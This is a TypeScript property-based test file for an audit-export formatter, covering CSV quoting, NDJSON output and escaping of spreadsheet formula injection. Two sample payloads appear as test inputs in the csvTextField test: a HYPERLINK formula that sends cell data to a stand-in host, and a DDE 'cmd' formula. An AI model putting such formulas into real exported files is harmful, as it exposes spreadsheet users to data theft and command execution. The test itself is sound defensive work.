import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ExportColumn } from '../../src/audit/export.columns.js';
import { csvField, csvTextField, formatterFor } from '../../src/audit/export.format.js';
import { parseCsv } from '../support/csv.js';

const COLUMNS: ExportColumn[] = [
  { name: 'id', sql: 'id', type: 'text' },
  { name: 'userId', sql: 'user_id', type: 'int' },
  { name: 'amount', sql: 'amount', type: 'decimal' },
  { name: 'notes', sql: 'notes', type: 'text' },
  { name: 'createdAt', sql: 'created_at', type: 'timestamp' },
];
const text = fc.option(
  fc.string({ unit: fc.constantFrom('a', ',', '"', '\r', '\n', ' ', 'é', '€', '\\', '\u0000', '=', '+', '-', '@', '\t') }),
  {
    nil: null,
  },
);
/** What a spreadsheet-safe CSV holds for a text value: a would-be formula gets a leading quote mark (OWASP). */
const guarded = (v: string | null): string | null => (v !== null && /^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
const row = fc.tuple(
  text,
  fc.option(fc.bigInt({ min: -(10n ** 20n), max: 10n ** 20n }).map(String), { nil: null }),
  fc.option(
    fc.tuple(fc.bigInt({ min: -(10n ** 30n), max: 10n ** 30n }), fc.nat(12)).map(([m, s]) => `${m}${s ? `.${'1'.repeat(s)}` : ''}`),
    { nil: null },
  ),
  text,
  fc.option(
    fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
    { nil: null },
  ),
);

describe('csvField', () => {
  it('when a value holds no comma, quote, CR or LF, then it is written as is; otherwise quoted with doubled quotes', () => {
    expect(csvField('-1.5')).toBe('-1.5');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('a\rb')).toBe('"a\rb"');
    expect(csvField('a\nb')).toBe('"a\nb"');
    expect(csvField('')).toBe('""');
    expect(csvField(null)).toBe('');
  });
});

describe('csvTextField', () => {
  it('when a text cell would start a formula (= + - @ TAB CR), then it is quoted with a leading quote mark; others as csvField', () => {
    expect(csvTextField('=HYPERLINK("https://evil.example/?x="&A1,"click")')).toBe(
      '"\'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")"',
    );
    expect(csvTextField("=cmd|' /C calc'!A0")).toBe("\"'=cmd|' /C calc'!A0\"");
    for (const start of ['+', '-', '@', '\t', '\r']) expect(csvTextField(`${start}1`)).toBe(`"'${start}1"`);
    expect(csvTextField('plain')).toBe('plain');
    expect(csvTextField('a=b')).toBe('a=b');
    expect(csvTextField(null)).toBe('');
  });

  it('when a decimal column holds a negative amount, then it stays a number', () => {
    const csv = formatterFor('csv', COLUMNS);
    expect(csv.line(['x', '1', '-12.5', '-note', null])).toBe(`x,1,-12.5,"'-note",`);
  });
});

describe('formatterFor', () => {
  it('when any rows are written as CSV, then a strict RFC 4180 reader gets the header and every value back, NULL and empty apart', () => {
    fc.assert(
      fc.property(fc.array(row, { maxLength: 20 }), (rows) => {
        const csv = formatterFor('csv', COLUMNS);
        const out = csv.header + rows.map((r) => csv.line([...r]) + csv.newline).join('');
        const expected = rows.map((r) => r.map((v, i) => (COLUMNS[i]!.type === 'text' ? guarded(v) : v)));
        expect(parseCsv(out)).toEqual([COLUMNS.map((c) => c.name), ...expected]);
      }),
    );
  });

  it('when any rows are written as NDJSON, then each line parses to the row: integers as numbers (digits kept), everything else as strings', () => {
    fc.assert(
      fc.property(fc.array(row, { maxLength: 20 }), (rows) => {
        const nd = formatterFor('ndjson', COLUMNS);
        const lines = rows
          .map((r) => nd.line([...r]) + nd.newline)
          .join('')
          .split('\n');
        expect(lines.pop()).toBe('');
        lines.forEach((line, i) => {
          const [id, userId, amount, notes, createdAt] = rows[i]!;
          // Integers are compared by their digits: a JS number would lose them above 2^53.
          const digits = /"userId":(-?\d+|null)/.exec(line)?.[1];
          expect(digits).toBe(userId ?? 'null');
          expect(JSON.parse(line)).toEqual({ id, userId: userId === null ? null : Number(userId), amount, notes, createdAt });
        });
      }),
    );
  });
});
